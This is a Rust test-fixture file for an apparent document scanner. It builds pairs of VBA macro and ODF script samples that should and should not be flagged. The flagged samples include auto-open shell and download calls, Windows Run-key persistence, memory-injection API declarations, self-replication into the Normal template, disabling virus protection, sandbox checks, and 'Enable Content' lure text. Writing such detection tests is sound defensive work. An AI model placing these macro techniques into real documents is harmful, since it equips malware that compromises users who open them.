//! Samples of macros.

use palisade_formats::samples::ZipMember;

use super::super::Case;
use super::build::{
    Module, document, macro_document, macro_document_saying, modules_document, odt, package,
    package_members, vba_project,
};
use super::case;

/// Runs when asked, and computes only.
const HONEST: &str =
    "Sub Total()\r\n  Range(\"B9\").Value = Application.Sum(Range(\"B1:B8\"))\r\nEnd Sub\r\n";
/// Runs by itself, and does nothing remarkable.
const GREETING: &str =
    "Private Sub Document_Open()\r\n  ActiveWindow.View.Zoom.Percentage = 100\r\nEnd Sub\r\n";

fn coded(text: &str) -> String {
    let letters: Vec<String> = text.bytes().map(|byte| format!("Chr({byte})")).collect();
    letters.join(" & ")
}

fn module_with_strings(source: &str) -> Vec<u8> {
    let compiled = &["quarterly report", "figures of March"];
    modules_document(&[Module { compiled, ..Module::new("Module1", source) }])
}

fn two_modules(listed: bool) -> Vec<u8> {
    modules_document(&[
        Module::new("Module1", HONEST),
        Module { listed, ..Module::new("Module2", HONEST) },
    ])
}

pub(super) fn cases() -> Vec<Case> {
    vec![
        case("macros", "a.docm", || macro_document(HONEST), || macro_document("")),
        case("macro-auto-run", "a.docm", || macro_document(GREETING), || macro_document(HONEST)),
        case(
            "macro-execute",
            "a.docm",
            || macro_document("Sub Show()\r\n  Shell \"calc.exe\", 1\r\nEnd Sub\r\n"),
            // A comment, a member and a variable of that name.
            || {
                macro_document(
                    "Sub Show()\r\n  ' Shell \"calc.exe\"\r\n  Egg.Shell = 1\r\n  shell = 2\r\nEnd Sub\r\n",
                )
            },
        ),
        case(
            "macro-download",
            "a.docm",
            || {
                macro_document(
                    "Sub Rates()\r\n  Set r = CreateObject(\"MSXML2.XMLHTTP\")\r\nEnd Sub\r\n",
                )
            },
            || {
                macro_document(
                    "Sub Rates()\r\n  Set r = CreateObject(\"MSXML2.DOMDocument\")\r\nEnd Sub\r\n",
                )
            },
        ),
        case(
            "macro-writes-file",
            "a.docm",
            || {
                macro_document(
                    "Sub Export()\r\n  Open f For Binary As #1\r\n  Put #1, , data\r\nEnd Sub\r\n",
                )
            },
            || {
                macro_document(
                    "Sub Export()\r\n  ActiveDocument.SaveAs2 f\r\n  Put = 1\r\nEnd Sub\r\n",
                )
            },
        ),
        case(
            "macro-auto-run-execute",
            "a.docm",
            || {
                macro_document(
                    "Sub AutoOpen()\r\n  s = \"WScript\" & _\r\n   \".Shell\"\r\n  CreateObject(s).Run \"calc\"\r\nEnd Sub\r\n",
                )
            },
            // Runs when its button is pressed.
            || macro_document("Sub Button1_Click()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n"),
        ),
        case(
            "macro-auto-run-download",
            "a.docm",
            || {
                macro_document(
                    "Private Declare PtrSafe Function fetch Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long)\r\n\
                     Sub Auto_Open()\r\n  fetch 0, \"http://example.com/a\", \"a\", 0, 0\r\nEnd Sub\r\n",
                )
            },
            // Looks for rates, and shows them in cells.
            || {
                macro_document(
                    "Sub Auto_Open()\r\n  Set r = CreateObject(\"MSXML2.XMLHTTP\")\r\n  Range(\"A1\") = r.responseText\r\nEnd Sub\r\n",
                )
            },
        ),
        case(
            "macro-injection",
            "a.docm",
            || {
                let declare = |name: &str| {
                    format!(
                        "Private Declare PtrSafe Function {name} Lib \"kernel32\" (ByVal a As Long) As Long\r\n"
                    )
                };
                macro_document(
                    &["VirtualAlloc", "RtlMoveMemory", "CreateThread"].map(declare).concat(),
                )
            },
            // The usual way to copy a structure.
            || {
                macro_document(
                    "Private Declare Sub CopyMemory Lib \"kernel32\" Alias \"RtlMoveMemory\" (a As Any)\r\n",
                )
            },
        ),
        case(
            "macro-obfuscated",
            "a.docm",
            || {
                macro_document(&format!(
                    "Sub Show()\r\n  s = {}\r\nEnd Sub\r\n",
                    coded("harmless but long text")
                ))
            },
            // Line ends and quotes are often written so.
            || {
                macro_document(
                    "Sub Show()\r\n  s = \"a\" & Chr(13) & Chr(10) & \"b\" & Chr(34)\r\nEnd Sub\r\n",
                )
            },
        ),
        case(
            "macro-auto-run-obfuscated",
            "a.docm",
            || {
                macro_document(&format!(
                    "Sub AutoOpen()\r\n  s = {}\r\n  Set o = GetObject(s)\r\nEnd Sub\r\n",
                    coded("harmless but long text")
                ))
            },
            || {
                macro_document(&format!(
                    "Sub AutoOpen()\r\n  MsgBox {}\r\nEnd Sub\r\n",
                    coded("harmless but long text")
                ))
            },
        ),
        case(
            "macro-hidden-data",
            "a.docm",
            || macro_document("Sub Show()\r\n  s = UserForm1.Label1.Tag\r\nEnd Sub\r\n"),
            || {
                macro_document(
                    "Sub Show()\r\n  Tag = 1\r\n  s = UserForm1.TextBox1.Text\r\nEnd Sub\r\n",
                )
            },
        ),
        case(
            "macro-persistence",
            "a.docm",
            || {
                macro_document(
                    "Sub AutoOpen()\r\n  w.RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x\", \"calc\"\r\nEnd Sub\r\n",
                )
            },
            || {
                macro_document(
                    "Sub AutoOpen()\r\n  s = w.RegRead(\"HKCU\\Software\\Example\\Settings\")\r\nEnd Sub\r\n",
                )
            },
        ),
        case(
            "macro-replication",
            "a.docm",
            || {
                macro_document(
                    "Sub AutoClose()\r\n  NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString t\r\nEnd Sub\r\n",
                )
            },
            // A developer's export of modules.
            || {
                macro_document(
                    "Sub ExportModules()\r\n  ThisDocument.VBProject.VBComponents(1).Export f\r\nEnd Sub\r\n",
                )
            },
        ),
        case(
            "macro-tampers-security",
            "a.docm",
            || macro_document("Sub AutoOpen()\r\n  Options.VirusProtection = False\r\nEnd Sub\r\n"),
            || {
                macro_document(
                    "Sub AutoOpen()\r\n  Options.CheckSpellingAsYouType = False\r\nEnd Sub\r\n",
                )
            },
        ),
        case(
            "macro-evasion",
            "a.docm",
            || {
                macro_document(
                    "Sub AutoOpen()\r\n  If Application.RecentFiles.Count < 3 Then Exit Sub\r\nEnd Sub\r\n",
                )
            },
            || {
                macro_document(
                    "Sub AutoOpen()\r\n  If Documents.Count < 3 Then Exit Sub\r\nEnd Sub\r\n",
                )
            },
        ),
        case(
            "macro-stomped",
            "a.docm",
            || module_with_strings("Sub Nothing1()\r\nEnd Sub\r\n"),
            || {
                module_with_strings(
                    "Sub Show()\r\n  s = \"quarterly report\"\r\n  t = \"figures of March\"\r\nEnd Sub\r\n",
                )
            },
        ),
        case("macro-hidden-module", "a.docm", || two_modules(false), || two_modules(true)),
        case(
            "lure-text",
            "a.docm",
            || package(&[("word/document.xml", &document("Please click Enable Content above"))]),
            || package(&[("word/document.xml", &document("The content of this box is enabled"))]),
        ),
        case(
            "lure-with-macros",
            "a.docm",
            || {
                macro_document_saying(
                    "To read this, press Enable Editing and Enable Content",
                    GREETING,
                )
            },
            || {
                macro_document_saying(
                    "To read this, press Enable Editing and Enable Content",
                    HONEST,
                )
            },
        ),
        case(
            "macros-in-plain-document",
            "a.docx",
            || {
                let project = vba_project(&[Module::new("Module1", HONEST)]);
                let mut members = package_members(&[
                    ("word/document.xml", &document("Text")),
                    ("word/vbaProject.bin", &project),
                ]);
                members[0] = ZipMember::deflated(
                    "[Content_Types].xml",
                    b"<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>",
                );
                palisade_formats::samples::zip_members(&members)
            },
            || macro_document(HONEST),
        ),
        case(
            "ribbon-callback",
            "a.docm",
            || {
                package(&[
                    ("word/document.xml", &document("Text")),
                    ("customUI/customUI.xml", b"<customUI onLoad=\"Loaded\"/>"),
                ])
            },
            || {
                package(&[
                    ("word/document.xml", &document("Text")),
                    ("customUI/customUI.xml", b"<customUI><button onAction=\"Total\"/></customUI>"),
                ])
            },
        ),
        case(
            "odf-event-script",
            "a.odt",
            || {
                odt(&[("content.xml", b"<office:document><script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\"/></office:document>")])
            },
            || {
                odt(&[("content.xml", b"<office:document><office:event-listeners/><text:p>an event-listener</text:p></office:document>")])
            },
        ),
        case(
            "odf-script-escape",
            "a.odt",
            || {
                odt(&[("content.xml", b"<d><script:event-listener script:event-name=\"dom:mouseover\" xlink:href=\"vnd.sun.star.script:../../../program/example.py$run?language=Python&amp;location=user\"/></d>")])
            },
            || {
                odt(&[("content.xml", b"<d><script:event-listener script:event-name=\"dom:mouseover\" xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\"/></d>")])
            },
        ),
    ]
}
